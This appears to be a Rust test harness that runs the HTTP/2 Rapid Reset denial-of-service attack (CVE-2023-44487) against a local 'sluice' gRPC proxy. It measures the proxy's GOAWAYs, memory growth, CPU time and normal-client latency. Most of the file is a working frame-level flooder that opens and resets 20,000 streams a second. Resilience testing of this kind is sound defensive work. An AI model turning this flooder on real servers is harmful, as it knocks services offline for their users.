//! Rapid reset (CVE-2023-44487) against the real sluice binary: an attacker
//! opens and resets 20 000 streams a second for 5 s, reconnecting whenever
//! it is cut off, while a normal client keeps calling on its own
//! connections. Prints what the attack caused: streams sent, upstream calls
//! and connections, GOAWAYs, the normal client's success rate and p99, and
//! sluice's RSS growth and CPU time.

mod support;

use std::{
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use prost::Message;
use sluice_testkit::{EchoServer, Req};
use support::{SluiceProcess, percentile};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

const ATTACK: Duration = Duration::from_secs(5);
const RATE: u64 = 20_000;
const TICK: Duration = Duration::from_millis(10);
const NORMAL_TASKS: usize = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("small");
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A literal, never-indexed HPACK block for a unary gRPC request.
fn request_block() -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/sluice.test.Echo/Unary"),
        (":authority", "bench"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        out.push(0x00);
        out.push(u8::try_from(name.len()).expect("short"));
        out.extend_from_slice(name.as_bytes());
        out.push(u8::try_from(value.len()).expect("short"));
        out.extend_from_slice(value.as_bytes());
    }
    out
}

/// Reads frames until the connection closes, counting GOAWAYs.
async fn read_goaways(
    mut rx: tokio::net::tcp::OwnedReadHalf,
    goaways: Arc<AtomicU64>,
    closed: Arc<AtomicBool>,
) {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    loop {
        match rx.read(&mut chunk).await {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        while buf.len() >= 9 {
            let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
            if buf.len() < 9 + len {
                break;
            }
            if buf[3] == 7 {
                goaways.fetch_add(1, Ordering::Relaxed);
            }
            buf.drain(..9 + len);
        }
    }
    closed.store(true, Ordering::Relaxed);
}

fn main() {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let upstream = EchoServer::start().await;
        let up = upstream.addr.to_string();
        let sluice = SluiceProcess::start(&["--listen", "127.0.0.1:0", "--upstream", &up, "--admin", "127.0.0.1:0"]);
        let addr = sluice.addr;
        // Warm up: the upstream connection exists before the attack.
        sluice_testkit::client(addr).unary(Req::default()).await.expect("warm-up");
        let rss_before = sluice.rss_kib();
        let cpu_before = sluice.cpu_secs();
        let started_before = upstream.probe.counts().started;

        let stop = Arc::new(AtomicBool::new(false));
        let mut normal = tokio::task::JoinSet::new();
        for _ in 0..NORMAL_TASKS {
            let stop = stop.clone();
            let mut client = sluice_testkit::client(addr);
            normal.spawn(async move {
                let (mut ok, mut failed, mut lat) = (0u64, 0u64, Vec::new());
                while !stop.load(Ordering::Relaxed) {
                    let t = Instant::now();
                    match tokio::time::timeout(Duration::from_secs(2), client.unary(Req::default())).await {
                        Ok(Ok(_)) => {
                            ok += 1;
                            lat.push(t.elapsed().as_micros() as u32);
                        }
                        _ => failed += 1,
                    }
                }
                (ok, failed, lat)
            });
        }

        let mut message = vec![0u8];
        let req = Req::default();
        message.extend_from_slice(&u32::try_from(req.encoded_len()).expect("small").to_be_bytes());
        req.encode(&mut message).expect("encode");
        let block = request_block();
        let goaways = Arc::new(AtomicU64::new(0));
        let (mut sent, mut connections) = (0u64, 0u64);
        let per_tick = RATE * TICK.as_millis() as u64 / 1000;
        let attack_start = Instant::now();
        'attack: while attack_start.elapsed() < ATTACK {
            let Ok(tcp) = TcpStream::connect(addr).await else { break };
            let _ = tcp.set_nodelay(true);
            connections += 1;
            let (rx, mut tx) = tcp.into_split();
            let closed = Arc::new(AtomicBool::new(false));
            tokio::spawn(read_goaways(rx, goaways.clone(), closed.clone()));
            let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            hello.extend(frame(4, 0, 0, &[]));
            if tx.write_all(&hello).await.is_err() {
                continue;
            }
            let mut stream = 1u32;
            let mut tick = tokio::time::interval(TICK);
            while attack_start.elapsed() < ATTACK && !closed.load(Ordering::Relaxed) {
                tick.tick().await;
                let mut batch = Vec::with_capacity(per_tick as usize * 120);
                for _ in 0..per_tick {
                    batch.extend(frame(1, 0x4, stream, &block));
                    batch.extend(frame(0, 0x1, stream, &message));
                    batch.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
                    stream += 2;
                }
                match tokio::time::timeout(Duration::from_millis(200), tx.write_all(&batch)).await {
                    Ok(Ok(())) => sent += per_tick,
                    _ => continue 'attack,
                }
            }
        }
        let attack_secs = attack_start.elapsed().as_secs_f64();
        let rss_peak = sluice.rss_kib();
        stop.store(true, Ordering::Relaxed);
        let (mut ok, mut failed, mut lat) = (0, 0, Vec::new());
        while let Some(r) = normal.join_next().await {
            let (o, f, l) = r.expect("normal task");
            ok += o;
            failed += f;
            lat.extend(l);
        }
        let cpu = sluice.cpu_secs() - cpu_before;
        let upstream_calls = upstream.probe.counts().started - started_before - ok - failed;
        println!("rapid reset: {attack_secs:.1} s at {RATE} streams/s target");
        println!(
            "attacker: {sent} streams sent ({:.0}/s) on {connections} connections; {} GOAWAYs received",
            sent as f64 / attack_secs,
            goaways.load(Ordering::Relaxed)
        );
        println!(
            "upstream: {upstream_calls} calls caused by the attack ({:.2} % of streams sent)",
            upstream_calls as f64 * 100.0 / sent.max(1) as f64
        );
        println!(
            "normal client: {ok} ok, {failed} failed ({:.1} % success), p50 {:.1} ms, p99 {:.1} ms",
            ok as f64 * 100.0 / (ok + failed).max(1) as f64,
            percentile(&mut lat, 0.50) / 1000.0,
            percentile(&mut lat, 0.99) / 1000.0
        );
        println!(
            "sluice: RSS {:.1} -> {:.1} MiB (+{:.1} MiB), {cpu:.2} CPU seconds",
            rss_before as f64 / 1024.0,
            rss_peak as f64 / 1024.0,
            rss_peak.saturating_sub(rss_before) as f64 / 1024.0
        );
    });
}
